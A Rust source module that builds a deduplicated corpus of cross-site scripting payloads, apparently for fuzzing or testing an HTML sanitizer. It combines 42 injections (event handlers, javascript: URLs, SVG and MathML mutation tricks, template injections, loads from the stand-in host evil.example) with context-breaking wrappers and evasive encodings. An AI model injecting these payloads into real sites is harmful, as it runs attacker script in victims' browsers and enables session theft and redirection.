//! Texts that try to be more than text: what is known to work somewhere, in
//! every place of a page it could break out of.

/// What would run, load or lead away.
const CORES: [&str; 42] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'/x=",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=data:text/html;base64;PHNjcmlwdD4=></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example';</style>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<div data-draft=//evil.example data-exit>x</div>",
    "<x onclick=alert(1)>x</x>",
    "<details/open/ontoggle=\"alert`1`\">",
    " onmouseover=alert(1) x=",
    " autofocus onfocus=alert(1) x=",
    " style=background:url(//evil.example)",
    "javascript:alert(1)",
    "data:text/html;<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}<%= alert(1) %>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
];

/// What would end the place it stands in.
const BREAKS: [(&str, &str); 24] = [
    ("", ""),
    ("\">", ""),
    ("'>", ""),
    (">", ""),
    ("\" ", " \""),
    ("' ", " '"),
    ("` ", " `"),
    ("</textarea>", "<textarea>"),
    ("</title>", "<title>"),
    ("</script>", "<script>"),
    ("</style>", "<style>"),
    ("</option></select>", ""),
    ("</p></main></body>", ""),
    ("-->", "<!--"),
    ("<!--", "-->"),
    ("]]>", "<![CDATA["),
    ("<", ""),
    ("\\\">", "//"),
    ("&quot;&gt;", ""),
    ("&lt;/textarea&gt;", ""),
    ("\u{2028}\">", "\u{2029}"),
    ("\u{ff1c}", "\u{ff1e}"),
    ("+ADw-", "+AD4-"),
    ("\u{202e}", "\u{feff}"),
];

/// The same letters, written so that something on the way may read them anew.
fn written(core: &str, way: usize) -> String {
    match way {
        0 => core.to_owned(),
        1 => core.to_uppercase(),
        2 => core.bytes().map(|byte| format!("%{byte:02X}")).collect(),
        3 => core.chars().map(|sign| format!("&#{};", u32::from(sign))).collect(),
        4 => core.replace('<', "\u{fe64}").replace('>', "\u{fe65}"),
        _ => core.replace(' ', "\t").replace("script", "scr\u{200b}ipt"),
    }
}

/// Every one of them, none twice.
pub fn all() -> Vec<String> {
    let mut all = Vec::new();
    for core in CORES {
        for (before, after) in BREAKS {
            all.push(format!("{before}{core}{after}"));
        }
        for way in 1..6 {
            let core = written(core, way);
            for (before, after) in &BREAKS[..5] {
                all.push(format!("{before}{core}{after}"));
            }
        }
    }
    all.sort();
    all.dedup();
    all
}
